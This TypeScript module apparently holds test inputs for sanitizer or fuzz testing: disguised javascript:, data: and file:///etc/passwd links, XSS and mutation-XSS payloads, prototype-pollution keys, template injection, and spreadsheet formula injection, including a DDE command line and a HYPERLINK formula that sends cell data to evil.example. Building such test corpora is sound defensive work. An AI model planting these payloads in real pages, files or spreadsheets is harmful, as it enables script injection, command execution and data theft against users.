import naughty from "big-list-of-naughty-strings/blns.json" with { type: "json" };

/** Addresses that run something, as writers of attacks disguise them; no reader may follow one. */
export const HARMFUL_LINKS: readonly string[] = [
  "javascript:alert(1)",
  "JaVaScRiPt:alert(1)",
  "java\tscript:alert(1)",
  "java\nscript:alert(1)",
  " \u0001javascript:alert(1)",
  "javascript\u200B:alert(1)",
  "vbscript:msgbox(1)",
  "data:text/html,<script>alert(1)</script>",
  "DATA:image/svg+xml;base64,PHN2Zy8+",
  "file:///etc/passwd",
  "view-source:javascript:alert(1)",
];

/** Words of others that did harm elsewhere, and of our own. */
export const CORPUS: readonly string[] = [
  ...naughty,
  ...HARMFUL_LINKS,
  "a\0b",
  "\u202Egpj.exe",
  "half \uD83D pair",
  "__proto__",
  "constructor",
  "toString",
  "hasOwnProperty",
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example?x="&A1,"x")',
  "<img src=x onerror=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<a href="&#106;ava&Tab;script&colon;alert(1)">x</a>',
  '<iframe srcdoc="<script>parent.alert(1)</script>">',
  "<base href=//evil.example><form action=javascript:alert(1)><button>x",
  "<meta http-equiv=refresh content=0;url=javascript:alert(1)>",
  "{{constructor.constructor('alert(1)')()}}",
  "${alert(1)}",
];
